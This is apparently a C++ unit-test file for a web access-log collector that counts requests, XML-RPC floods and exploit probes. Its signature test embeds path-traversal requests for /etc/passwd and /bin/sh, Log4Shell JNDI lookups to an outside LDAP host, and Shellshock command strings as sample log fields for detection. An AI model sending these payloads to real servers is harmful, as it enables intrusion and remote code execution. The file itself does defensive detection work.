#include "collectors/access_log_collector.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <fstream>
#include <sstream>

#include "testutil/exposition.h"
#include "testutil/fake_clock.h"
#include "testutil/step_trigger.h"
#include "testutil/temp_dir.h"
#include "testutil/testdata.h"

namespace edgewatch {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

class AccessLogCollectorTest : public ::testing::Test {
 protected:
  static std::string Text(const Collector& c) { return testing::Exposition(c); }

  Logger logger() { return Logger(log_, LogLevel::kDebug, LogFormat::kLogfmt, clock_); }

  std::ostringstream log_;
  testing::FakeClock clock_;
};

// A quiet log: GET and POST with 200, 304, 404 and 500 are there at 0, so ratios by code class
// show 0, not "No data"; xmlrpc and wp-login POST 200 too.
TEST_F(AccessLogCollectorTest, QuietLogHasItsSeriesAtZero) {
  const testing::TempDir dir("al-quiet");
  std::ofstream(dir.File("quiet.log")) << "";
  AccessLogCollector c(AccessLogConfig{}, clock_, logger());
  ASSERT_TRUE(c.Replay(dir.File("quiet.log")).ok());
  const std::string t = Text(c);
  for (const std::string method : {"GET", "POST"}) {
    for (const std::string code : {"200", "304", "404", "500"}) {
      EXPECT_THAT(t, HasSubstr("\nedgewatch_http_requests_total{log=\"quiet.log\",method=\"" +
                               method + "\",code=\"" + code + "\"} 0\n"));
    }
  }
  EXPECT_THAT(t, HasSubstr("\nedgewatch_xmlrpc_requests_total{log=\"quiet.log\",method=\"POST\","
                           "code=\"200\"} 0\n"));
  EXPECT_THAT(t, Not(HasSubstr("method=\"PUT\"")));
}

// Expected values: the numbers in tests/testdata/access_log/make_incident.py's docstring.
TEST_F(AccessLogCollectorTest, ReplaysTheXmlrpcFloodIncident) {
  AccessLogCollector c(AccessLogConfig{}, clock_, logger());
  ASSERT_TRUE(c.Replay(testing::TestData("access_log/incident-xmlrpc-flood.log")).ok());
  const std::string t = Text(c);
  const std::string log = "log=\"incident-xmlrpc-flood.log\"";
  EXPECT_THAT(t, HasSubstr("edgewatch_log_lines_total{" + log + "} 1170\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_http_unparsed_lines_total{" + log + "} 2\n"));
  EXPECT_THAT(
      t, HasSubstr("edgewatch_http_requests_total{" + log + ",method=\"GET\",code=\"200\"} 625\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_http_requests_total{" + log +
                           ",method=\"POST\",code=\"200\"} 490\n"));
  EXPECT_THAT(
      t, HasSubstr("edgewatch_http_requests_total{" + log + ",method=\"POST\",code=\"403\"} 50\n"));
  EXPECT_THAT(
      t, HasSubstr("edgewatch_http_requests_total{" + log + ",method=\"GET\",code=\"404\"} 3\n"));
  // 600*5120 + 450*370 + 50*199 + 40*4300 + 25*5120 + 3*196
  EXPECT_THAT(t, HasSubstr("edgewatch_http_response_bytes_total{" + log + "} 3549038\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_requests_total{" + log +
                           ",method=\"POST\",code=\"200\"} 450\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_requests_total{" + log +
                           ",method=\"POST\",code=\"403\"} 50\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_wp_login_requests_total{" + log +
                           ",method=\"POST\",code=\"200\"} 40\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_http_pingback_requests_total{" + log + "} 25\n"));
  // All three were answered 404 (grep -F '() {' on the log): none may have worked.
  const auto probes = [&](std::string_view kind, std::string_view code_class) {
    return "edgewatch_http_exploit_probes_total{" + log + ",kind=\"" + std::string(kind) +
           "\",code_class=\"" + std::string(code_class) + "\"} ";
  };
  EXPECT_THAT(t, HasSubstr(probes("shellshock", "4xx") + "3\n"));
  for (const char* code_class : {"1xx", "2xx", "3xx", "5xx"}) {
    EXPECT_THAT(t, HasSubstr(probes("shellshock", code_class) + "0\n"));
  }
  for (const char* kind : {"log4shell", "path_traversal"}) {
    for (const char* code_class : {"1xx", "2xx", "3xx", "4xx", "5xx"}) {
      EXPECT_THAT(t, HasSubstr(probes(kind, code_class) + "0\n"));
    }
  }
  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_top_client_requests{" + log +
                           ",client=\"203.0.113.10\"} 300\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_top_client_requests{" + log +
                           ",client=\"203.0.113.11\"} 150\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_top_client_requests{" + log +
                           ",client=\"2001:db8::77\"} 50\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_top_client_requests{" + log +
                           ",client=\"198.51.100.23\"} 40\n"));
}

TEST_F(AccessLogCollectorTest, TopClientsAreBoundedAndAgeOut) {
  AccessLogSettings settings{{"/xmlrpc.php"}, {"/wp-login.php"}, 3, 60'000'000'000};
  AccessLogStats stats(settings);
  access_log::Request r;
  r.method = access_log::Method::kPost;
  r.status = 200;
  r.path = "/xmlrpc.php";
  // 1,000 distinct attackers (addresses an attacker controls) and three heavy ones.
  std::vector<std::string> clients;
  for (int i = 0; i < 1000; ++i) {
    clients.push_back("10.0." + std::to_string(i / 250) + "." + std::to_string(i % 250));
  }
  for (const auto& c : clients) {
    r.client = c;
    ASSERT_TRUE(stats.Add(r).RanksClient());
    stats.AddTopClient(r.client, 0);
  }
  for (int i = 0; i < 100; ++i) {
    for (const char* heavy : {"192.0.2.1", "192.0.2.2", "192.0.2.3"}) {
      r.client = heavy;
      ASSERT_TRUE(stats.Add(r).RanksClient());
      stats.AddTopClient(r.client, 1'000'000'000);
    }
  }
  const auto top = stats.TopClients(2'000'000'000).entries;
  ASSERT_EQ(top.size(), 3u);
  EXPECT_EQ(top[0].first.view(), "192.0.2.1");
  EXPECT_EQ(top[1].first.view(), "192.0.2.2");
  EXPECT_EQ(top[2].first.view(), "192.0.2.3");
  EXPECT_TRUE(stats.TopClients(200'000'000'000).entries.empty());  // a quiet window later
  EXPECT_EQ(stats.xmlrpc()[static_cast<int>(access_log::Method::kPost)][100], 1300u);
}

// Lines in a format that logs the headers attackers put exploits in; each is counted once under
// the probe it carries, whichever field it is in.
TEST_F(AccessLogCollectorTest, SignaturesInEveryField) {
  const auto format = access_log::Format::Compile(
      R"(%h %u %t "%r" "%{Referer}i" "%{User-Agent}i" "%{Host}i" "%{Cookie}i" )"
      R"("%{X-Forwarded-For}i" "%{X-Api-Version}i" %>s %b)");
  ASSERT_TRUE(format);
  struct Case {
    const char* fields;  // user, request, referer, ua, host, cookie, xff, x-api-version
    access_log::Probe probe;
  };
  using P = access_log::Probe;
  const Case cases[] = {
      {R"t(- "GET /a/../../etc/passwd HTTP/1.1" "-" "-" "-" "-" "-" "-")t", P::kPathTraversal},
      {R"t(- "GET /%2e%2e/%2E%2E/etc/passwd HTTP/1.1" "-" "-" "-" "-" "-" "-")t",
       P::kPathTraversal},
      // CVE-2021-41773 and -42013 (Apache 2.4.49 and 2.4.50).
      {R"t(- "GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1" "-" "-" "-" "-" "-" "-")t",
       P::kPathTraversal},
      {R"t(- "GET /icons/.%%32%65/.%%32%65/etc/passwd HTTP/1.1" "-" "-" "-" "-" "-" "-")t",
       P::kPathTraversal},
      {R"t(- "GET /scripts/..%5c..%5cwinnt/system32/cmd.exe HTTP/1.0" "-" "-" "-" "-" "-" "-")t",
       P::kPathTraversal},
      {R"t(- "GET /.. HTTP/1.1" "-" "-" "-" "-" "-" "-")t", P::kPathTraversal},
      {R"t(- "GET / HTTP/1.1" "-" "${jndi:ldap://198.51.100.9/a}" "-" "-" "-" "-")t",
       P::kLog4Shell},
      {R"t(- "GET / HTTP/1.1" "${${lower:j}ndi:ldap://x/a}" "-" "-" "-" "-" "-")t", P::kLog4Shell},
      {R"t(- "GET /?q=%24%7Bjndi:dns://x/a%7D HTTP/1.1" "-" "-" "-" "-" "-" "-")t", P::kLog4Shell},
      {R"t(- "GET / HTTP/1.1" "-" "-" "${jndi:ldap://x/h}" "-" "-" "-")t", P::kLog4Shell},
      {R"t(- "GET / HTTP/1.1" "-" "-" "-" "id=${jndi:rmi://x/c}" "-" "-")t", P::kLog4Shell},
      {R"t(- "GET / HTTP/1.1" "-" "-" "-" "-" "${jndi:ldap://x/f}" "-")t", P::kLog4Shell},
      {R"t(- "GET / HTTP/1.1" "-" "-" "-" "-" "-" "${jndi:ldap://x/v}")t", P::kLog4Shell},
      {R"t(${jndi:ldap://x/u} "GET / HTTP/1.1" "-" "-" "-" "-" "-" "-")t", P::kLog4Shell},
      {R"t(- "GET /cgi-bin/status HTTP/1.1" "-" "() { :; }; /bin/bash -c id" "-" "-" "-" "-")t",
       P::kShellshock},
      {R"t(- "GET /cgi-bin/status HTTP/1.1" "() { :;}; echo; /bin/id" "-" "-" "-" "-" "-")t",
       P::kShellshock},
      {R"t(- "GET /cgi-bin/x HTTP/1.1" "-" "-" "-" "x=() { :; }; ping 192.0.2.1" "-" "-")t",
       P::kShellshock},
  };
  // "192.0.2.9 USER [time] REQUEST ... 200 0": the fields with the server's parts around them.
  const auto line_of = [](std::string_view fields) {
    const auto user = fields.find(' ');
    return "192.0.2.9 " + std::string(fields.substr(0, user)) + " [10/Oct/2026:13:55:36 +0000]" +
           std::string(fields.substr(user)) + " 200 0";
  };
  for (const auto& c : cases) {
    AccessLogStats stats(AccessLogSettings{});
    const std::string line = line_of(c.fields);
    const auto r = format->Parse(line);
    ASSERT_TRUE(r) << c.fields;
    stats.Add(*r);
    for (int p = 0; p < access_log::kProbeCount; ++p) {
      EXPECT_EQ(stats.probes()[p][1], p == static_cast<int>(c.probe) ? 1u : 0u)
          << c.fields << " " << access_log::ProbeName(static_cast<access_log::Probe>(p));
    }
  }
  // Look-alikes that are none.
  for (
      const char* fields :
      {R"t(- "GET /index.php?x=a..b HTTP/1.1" "-" "-" "-" "-" "-" "-")t",
       R"t(- "GET /a/..b/c.. HTTP/1.1" "-" "-" "-" "-" "-" "-")t",
       R"t(- "GET /price?x=$5 HTTP/1.1" "-" "Mozilla/5.0 (X11; Linux) WordPress/6.4" "-" "-" "-" "-")t",
       R"t(- "GET / HTTP/1.1" "-" "curl/8.0 (function() {})" "-" "-" "-" "-")t"}) {
    AccessLogStats stats(AccessLogSettings{});
    const std::string line = line_of(fields);
    const auto r = format->Parse(line);
    ASSERT_TRUE(r) << fields;
    stats.Add(*r);
    for (int p = 0; p < access_log::kProbeCount; ++p) {
      EXPECT_EQ(stats.probes()[p][1], 0u) << fields;
    }
    EXPECT_EQ(stats.pingbacks(), 0u);
  }
}

TEST_F(AccessLogCollectorTest, FollowsConfiguredLogsWithTheirFormat) {
  const testing::TempDir dir("al");
  const auto path = dir.File("access.log");
  std::ofstream(path) << "old line before start\n";
  AccessLogConfig config;
  config.logs.push_back({"site", path, "%h %>s %U"});
  auto trigger = std::make_unique<testing::StepTrigger>();
  testing::StepTrigger* step = trigger.get();
  AccessLogCollector c(config, clock_, logger(), std::move(trigger));
  ASSERT_TRUE(c.Start().ok());
  step->AwaitFirstRound();
  // Before any request, POST 200 of xmlrpc and wp-login are there at 0 (so that rate() sees a
  // flood from its first request), and of all requests only the pre-initialised ones.
  const std::string before = Text(c);
  EXPECT_THAT(before, HasSubstr("edgewatch_xmlrpc_requests_total{log=\"site\",method=\"POST\","
                                "code=\"200\"} 0\n"));
  EXPECT_THAT(before, HasSubstr("edgewatch_wp_login_requests_total{log=\"site\",method=\"POST\","
                                "code=\"200\"} 0\n"));
  EXPECT_THAT(before, Not(HasSubstr("method=\"OTHER\"")));
  EXPECT_THAT(before, Not(HasSubstr("code=\"403\"")));
  std::ofstream(path, std::ios::app) << "192.0.2.5 200 /xmlrpc.php\n192.0.2.5 200 /x\ngarbage\n\n";
  step->Step();
  const std::string t = Text(c);
  EXPECT_THAT(t, HasSubstr("edgewatch_log_up{log=\"site\"} 1\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_log_lines_total{log=\"site\"} 4\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_http_unparsed_lines_total{log=\"site\"} 1\n"));
  EXPECT_THAT(
      t,
      HasSubstr("edgewatch_xmlrpc_requests_total{log=\"site\",method=\"OTHER\",code=\"200\"} 1\n"));
  EXPECT_THAT(
      t,
      HasSubstr("edgewatch_http_requests_total{log=\"site\",method=\"OTHER\",code=\"200\"} 2\n"));
  EXPECT_THAT(
      t, HasSubstr("edgewatch_xmlrpc_top_client_requests{log=\"site\",client=\"192.0.2.5\"} 1\n"));
  EXPECT_THAT(t, Not(HasSubstr("old line")));
  c.Stop();
}

// Debian's other_vhosts_access.log (vhost_combined, %v:%p): the sites ranked by all requests,
// xmlrpc POSTs and probes; a GET of xmlrpc.php is no flood.
TEST_F(AccessLogCollectorTest, RanksSitesOfAVhostCombinedLog) {
  const testing::TempDir dir("al-vhosts");
  {
    std::ofstream f(dir.File("other_vhosts_access.log"));
    const char* tail = R"( 203.0.113.10 - - [10/Oct/2026:13:55:36 +0000] )";
    for (int i = 0; i < 30; ++i) {
      f << "Blog.Example:443" << tail << R"("POST /xmlrpc.php HTTP/1.1" 200 370 "-" "-")" << '\n';
    }
    for (int i = 0; i < 5; ++i) {
      f << "shop.example:80" << tail << R"("GET /xmlrpc.php HTTP/1.1" 405 0 "-" "-")" << '\n';
      f << "shop.example:80" << tail << R"("POST /wp-login.php HTTP/1.1" 200 1 "-" "-")" << '\n';
    }
    f << "shop.example:80" << tail << R"("GET /cgi-bin/x HTTP/1.1" 404 0 "-" "() { :; }; id")"
      << '\n';
  }
  AccessLogConfig config;
  config.logs.push_back({"vhosts", dir.File("other_vhosts_access.log"), "vhost_combined"});
  AccessLogCollector c(config, clock_, logger());
  ASSERT_TRUE(c.Replay(dir.File("other_vhosts_access.log")).ok());
  const std::string t = Text(c);
  const auto top = [](std::string_view kind, std::string_view vhost) {
    return "edgewatch_http_top_vhost_requests{log=\"other_vhosts_access.log\",kind=\"" +
           std::string(kind) + "\",vhost=\"" + std::string(vhost) + "\"} ";
  };
  EXPECT_THAT(t, HasSubstr(top("all", "blog.example") + "30\n"));
  EXPECT_THAT(t, HasSubstr(top("all", "shop.example") + "11\n"));
  EXPECT_THAT(t, HasSubstr(top("xmlrpc", "blog.example") + "30\n"));
  EXPECT_THAT(t, Not(HasSubstr(top("xmlrpc", "shop.example"))));
  EXPECT_THAT(t, HasSubstr(top("wp_login", "shop.example") + "5\n"));
  EXPECT_THAT(t, HasSubstr(top("probe", "shop.example") + "1\n"));
  EXPECT_THAT(t,
              HasSubstr("edgewatch_http_top_vhost_error_requests{log=\"other_vhosts_access.log\","
                        "kind=\"all\"} 0\n"));
}

// Clients choose the Host header: a spray of names still gives top_k sites, with an honest error.
TEST_F(AccessLogCollectorTest, SitesFromHostAreBounded) {
  const testing::TempDir dir("al-hosts");
  {
    std::ofstream f(dir.File("access.log"));
    for (int i = 0; i < 5000; ++i) {
      f << "203.0.113.9 [10/Oct/2026:13:55:36 +0000] \"GET / HTTP/1.1\" 200 host" << i
        << ".example\n";
      f << "203.0.113.9 [10/Oct/2026:13:55:36 +0000] \"GET / HTTP/1.1\" 200 "
           "WWW.Victim.Example:8080\n";
    }
  }
  AccessLogConfig config;
  config.top_k = 3;
  config.logs.push_back({"site", dir.File("access.log"), "%h %t \"%r\" %>s %{Host}i"});
  AccessLogCollector c(config, clock_, logger());
  ASSERT_TRUE(c.Replay(dir.File("access.log")).ok());
  const std::string t = Text(c);
  std::size_t listed = 0;
  for (auto at = t.find("edgewatch_http_top_vhost_requests{log=\"access.log\",kind=\"all\"");
       at != std::string::npos;
       at = t.find("edgewatch_http_top_vhost_requests{log=\"access.log\",kind=\"all\"", at + 1)) {
    ++listed;
  }
  EXPECT_LE(listed, 3u);
  EXPECT_THAT(t, HasSubstr("kind=\"all\",vhost=\"www.victim.example\"} 5000\n"));
  EXPECT_THAT(t, Not(HasSubstr("edgewatch_http_top_vhost_error_requests{log=\"access.log\","
                               "kind=\"all\"} 0\n")));
}

// Per-site files: the site is what the glob's '*' matched; a replayed copy of one is read with
// the settings of the configured log its name matches, custom format included.
TEST_F(AccessLogCollectorTest, SitesFromFileNamesAndReplayByConfiguredFormat) {
  const testing::TempDir dir("al-files");
  const std::string format = R"(%a %{%s}t "%r" %>s)";
  for (const std::string site : {"blog.example", "shop.example"}) {
    std::ofstream f(dir.File(site + "-access.log"));
    for (int i = 0; i < (site == "blog.example" ? 4 : 2); ++i) {
      f << "192.0.2.1 1700000000 \"POST /xmlrpc.php HTTP/1.1\" 200\n";
    }
  }
  AccessLogConfig config;
  AccessLogFileConfig log{"sites", dir.File("*-access.log"), format};
  log.vhost_from_path = true;
  config.logs.push_back(log);
  AccessLogCollector c(config, clock_, logger());
  ASSERT_TRUE(c.Replay(dir.File("blog.example-access.log")).ok());
  ASSERT_TRUE(c.Replay(dir.File("shop.example-access.log")).ok());
  const std::string t = Text(c);
  EXPECT_THAT(
      t, HasSubstr("edgewatch_http_unparsed_lines_total{log=\"blog.example-access.log\"} 0\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_http_top_vhost_requests{log=\"blog.example-access.log\","
                           "kind=\"xmlrpc\",vhost=\"blog.example\"} 4\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_http_top_vhost_requests{log=\"shop.example-access.log\","
                           "kind=\"xmlrpc\",vhost=\"shop.example\"} 2\n"));
  // No configured log stands for another file: formats are detected, and this one is none.
  std::ofstream(dir.File("other.txt")) << "192.0.2.1 1700000000 \"GET / HTTP/1.1\" 200\n";
  ASSERT_TRUE(c.Replay(dir.File("other.txt")).ok());
  EXPECT_THAT(Text(c), HasSubstr("edgewatch_http_unparsed_lines_total{log=\"other.txt\"} 1\n"));
}

TEST_F(AccessLogCollectorTest, SetLogsKeepsTheStateOfLogsThatStay) {
  const testing::TempDir dir("al-set");
  const auto site = dir.File("site.log");
  const auto gone = dir.File("gone.log");
  const auto added = dir.File("added.log");
  for (const auto& p : {site, gone, added}) {
    std::ofstream(p) << "192.0.2.1 200 /before-start\n";
  }
  AccessLogConfig config;
  config.logs.push_back({"site", site, "%h %>s %U"});
  config.logs.push_back({"gone", gone, ""});
  auto trigger = std::make_unique<testing::StepTrigger>();
  testing::StepTrigger* step = trigger.get();
  AccessLogCollector c(config, clock_, logger(), std::move(trigger));
  ASSERT_TRUE(c.Start().ok());
  step->AwaitFirstRound();
  std::ofstream(site, std::ios::app) << "192.0.2.5 200 /xmlrpc.php\n";
  step->Step();
  // Written before the reload, read after it. The kept log takes its new format (%U %>s).
  std::ofstream(site, std::ios::app) << "/xmlrpc.php 403\n";
  c.SetLogs({{"added", added, ""}, {"site", site, "%U %>s"}});
  step->Step();
  const std::string t = Text(c);
  EXPECT_THAT(t, HasSubstr("edgewatch_log_lines_total{log=\"site\"} 2\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_requests_total{log=\"site\",method=\"OTHER\","
                           "code=\"200\"} 1\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_requests_total{log=\"site\",method=\"OTHER\","
                           "code=\"403\"} 1\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_http_unparsed_lines_total{log=\"site\"} 0\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_log_lines_total{log=\"added\"} 0\n"));  // from its end
  EXPECT_THAT(t, Not(HasSubstr("log=\"gone\"")));
  // Only the line logged with %h names a client.
  EXPECT_THAT(
      t, HasSubstr("edgewatch_xmlrpc_top_client_requests{log=\"site\",client=\"192.0.2.5\"} 1\n"));
  EXPECT_THAT(t, Not(HasSubstr("client=\"\"")));
  c.Stop();
}

TEST_F(AccessLogCollectorTest, CatchUpRoundsReadEveryFile) {
  const testing::TempDir dir("al-busy");
  const auto busy = dir.File("busy.log");
  const auto quiet = dir.File("quiet.log");
  std::ofstream(busy) << "";
  std::ofstream(quiet) << "";
  AccessLogConfig config;
  config.logs.push_back({"busy", busy, "%h %>s %U"});
  config.logs.push_back({"quiet", quiet, "%h %>s %U"});
  auto trigger = std::make_unique<testing::StepTrigger>(std::vector<std::string>{busy});
  testing::StepTrigger& step = *trigger;
  AccessLogCollector c(config, clock_, logger(), std::move(trigger));
  ASSERT_TRUE(c.Start().ok());
  step.AwaitFirstRound();
  // More than one round's read budget (4 MiB) in the written file; the other file's line, not in
  // the trigger's list, is read by the rounds that catch up.
  const std::string line = "192.0.2.1 200 /x\n";
  const std::size_t lines = (5 << 20) / line.size();
  {
    std::ofstream out(busy, std::ios::app);
    for (std::size_t i = 0; i < lines; ++i) {
      out << line;
    }
  }
  std::ofstream(quiet, std::ios::app) << line;
  step.Step();
  const std::string t = Text(c);
  EXPECT_THAT(t,
              HasSubstr("edgewatch_log_lines_total{log=\"busy\"} " + std::to_string(lines) + "\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_log_lines_total{log=\"quiet\"} 1\n"));
  c.Stop();
}

}  // namespace
}  // namespace edgewatch
